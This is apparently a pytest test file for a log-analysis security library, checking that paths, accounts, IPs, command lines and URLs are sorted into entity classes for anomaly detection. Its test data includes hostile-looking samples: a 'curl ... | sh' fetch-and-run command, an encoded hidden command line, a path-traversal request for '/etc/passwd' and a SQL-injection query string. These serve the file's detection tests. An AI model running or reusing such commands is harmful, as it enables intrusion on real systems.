from __future__ import annotations

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from secad.base.schemas import ECS
from secad.features.entities import ENTITY, entities, source_column, words

# column, value, derivation -> class
KNOWN = [
    ("process_executable", r"C:\Windows\System32\cmd.exe", "name", "cmd.exe"),
    ("process_executable", r"C:\Windows\System32\cmd.exe", "folder", "system32"),
    ("process_executable", r"\Device\HarddiskVolume2\Windows\System32\a.exe", "folder", "system32"),
    ("process_executable", r"\??\C:\Windows\system32\conhost.exe", "folder", "system32"),
    ("process_executable", r"C:\Windows\System32\wbem\WmiPrvSE.exe", "folder", "system32/*"),
    ("process_executable", r"C:\Users\ann\Downloads\a.exe", "folder", "downloads"),
    ("process_executable", r"C:\Users\ann\AppData\Local\Temp\a.exe", "folder", "temp"),
    ("process_executable", r"C:\Windows\Temp\a.exe", "folder", "temp"),
    ("process_executable", r"C:\Users\Public\a.exe", "folder", "users/public"),
    ("process_executable", r"C:\Program Files (x86)\A\a.exe", "folder", "program files"),
    ("process_executable", r"C:\a.exe", "folder", "root of the drive"),
    ("process_executable", r"\\server\share\a.exe", "folder", "share"),
    ("process_executable", "System", "folder", "no folder"),
    ("process_executable", "/usr/bin/python3", "name", "python3"),
    ("process_executable", "/usr/bin/python3", "folder", "usr/bin"),
    ("process_executable", "/bin/sh", "folder", "usr/bin"),
    ("process_executable", "/usr/sbin/sshd", "folder", "usr/sbin"),
    ("process_executable", "/tmp/x", "folder", "tmp"),  # noqa: S108
    ("process_executable", "/var/tmp/x", "folder", "tmp"),  # noqa: S108
    ("process_executable", "/dev/shm/x", "folder", "dev/shm"),  # noqa: S108
    ("process_executable", "/home/ann/.cache/x", "folder", "hidden in home"),
    ("process_executable", "/home/ann/x", "folder", "home"),
    ("process_executable", "/var/www/html/x.php", "folder", "var/www"),
    ("winlog_target_executable", r"C:\Windows\System32\lsass.exe", "name", "lsass.exe"),
    ("process_working_directory", "/etc/cron.d/", "folder", "etc/cron"),
    ("file_path", "/var/log/auth.log", "extension", "log"),
    ("file_path", "/var/log/auth", "extension", "none"),
    ("file_path", r"C:\a\Report 17.DOCX", "name", "report #.docx"),
    ("user_name", "SYSTEM", "class", "system"),
    ("user_name", "root", "class", "system"),
    ("user_name", "WORKSTATION5$", "class", "machine"),
    ("user_name", "svc-backup", "class", "service"),
    ("user_name", "DWM-1", "class", "service"),
    ("user_name", "www-data", "class", "service"),
    ("user_name", "Administrator", "class", "admin"),
    ("user_name", "Ann", "class", "person"),
    ("user_name", "Ann", "", "ann"),
    ("user_target_name", "ANONYMOUS LOGON", "class", "nobody"),
    ("source_ip", "10.1.2.3", "role", "private"),
    ("source_ip", "::ffff:172.16.0.1", "role", "private"),
    ("source_ip", "127.0.0.1", "role", "loopback"),
    ("source_ip", "169.254.1.1", "role", "link-local"),
    ("source_ip", "fe80::1", "role", "link-local"),
    ("source_ip", "224.0.0.251", "role", "multicast"),
    ("source_ip", "0.0.0.0", "role", "unspecified"),  # noqa: S104
    ("source_ip", "8.8.8.8", "role", "public"),
    ("source_ip", "2001:db8::1", "role", "public"),
    ("source_ip", "10.1.2.3", "network", "10.1.2.0/24"),
    ("source_ip", "8.8.4.4", "network", "8.8.0.0/16"),
    ("source_ip", "2001:db8:1:2:3:4:5:6", "network", "2001:db8:1:2::/64"),
    ("destination_port", "443", "service", "443"),
    ("destination_port", "51234", "service", "dynamic"),
    ("process_command_line", r"C:\x\a.exe -nop -W Hidden -enc QQBB", "signs", "encoded hidden"),
    ("process_command_line", "curl http://1.2.3.4/a.sh | sh", "signs", "address script chain"),
    ("process_command_line", "ls", "signs", "plain"),
    ("process_command_line", r'"C:\Program Files\a\b.exe" /id 17', "shape", "b.exe /id #"),
    ("process_command_line", "/usr/bin/find /var/log -mtime 3", "shape", "find log -mtime #"),
    ("process_command_line", "ls -l", "length", "4-7"),
    ("registry_path", r"HKU\S-1-5-21-1-2\SOFTWARE\A\B\C\D\E", "key", r"hku\<sid>\software\a\b\c"),
    ("registry_path", r"HKLM\SOFTWARE\A\Run", "name", "run"),
    ("winlog_call_trace", r"C:\W\ntdll.dll+9d|C:\KERNELBASE.dll+2c|C:\a.dll+13", "module", "a.dll"),
    ("winlog_call_trace", r"C:\W\ntdll.dll+9d|C:\W\KERNELBASE.dll+2c", "module", "system only"),
    ("winlog_call_trace", "ntdll.dll+9d|UNKNOWN(00A)", "module", "unknown"),
    ("winlog_call_trace", "ntdll.dll+9d|UNKNOWN(00A)", "memory", "memory outside modules"),
    ("winlog_granted_access", "0x1FFFFF", "", "0x1fffff"),
    ("http_response_status_code", "404", "class", "4xx"),
    ("http_response_bytes", "1500", "size", "1024-2047"),
    ("url_path", "/app/users/17/edit/now", "route", "/app/users/#"),
    ("url_path", "/../../etc/passwd", "signs", ".."),
    ("url_query", "id=17&name=a", "keys", "id&name"),
    ("url_query", "id=1%27--", "signs", "% '"),
    ("user_agent_original", "curl/7.88.1", "product", "curl"),
    ("user_agent_original", "Mozilla/5.0 (X11)", "shape", "mozilla/#.# (x#)"),
    ("dns_question_name", "a.b.Example.com.", "domain", "example.com"),
    ("template_id", "ab12", "", "ab12"),
]  # fmt: skip


@pytest.mark.parametrize(("column", "value", "derivation", "expected"), KNOWN)
def test_a_value_is_of_the_class(column: str, value: str, derivation: str, expected: str) -> None:
    name = f"{column}__{derivation}" if derivation else column
    found = entities(pa.table({column: [None, value]}))[name].to_pylist()
    assert found == [None, expected]


def test_numbers_are_entities_too() -> None:
    found = entities(pa.table({"destination_port": pa.array([22, None], pa.int64())}))
    assert found["destination_port__service"].to_pylist() == ["22", None]


def test_identities_and_texts_are_none() -> None:
    names = ["event_id", "process_pid", "process_entity_id", "message", "source_path", "line"]
    assert entities(pa.table({name: ["a"] for name in names})).num_columns == 0


def test_the_clock_is_off_until_asked() -> None:
    table = pa.table({"time": pa.array([0], pa.timestamp("us", tz="UTC"))})
    assert entities(table).column_names == []
    found = entities(table, clock=True)
    assert found.to_pylist() == [{"time__hour": "00", "time__weekday": "Thursday"}]


def test_names_come_apart_again() -> None:
    assert source_column("winlog_target_executable__name") == "winlog_target_executable"
    assert words("process_executable__folder") == "process executable folder"
    assert words("zeek_history") == "history"


TEXT = st.none() | st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=40)


@given(st.sampled_from([f.name for f in ECS if f.type == pa.string()]), st.lists(TEXT, max_size=5))
@settings(max_examples=50, deadline=None)
def test_no_text_breaks_it_and_null_stays_null(column: str, values: list[str | None]) -> None:
    table = pa.table({column: pa.array(values, pa.string())})
    found = entities(table)
    for name in found.column_names:
        assert found.schema.field(name).type == ENTITY
        nulls = [value is None for value in found[name].to_pylist()]
        assert nulls == [value is None for value in values]
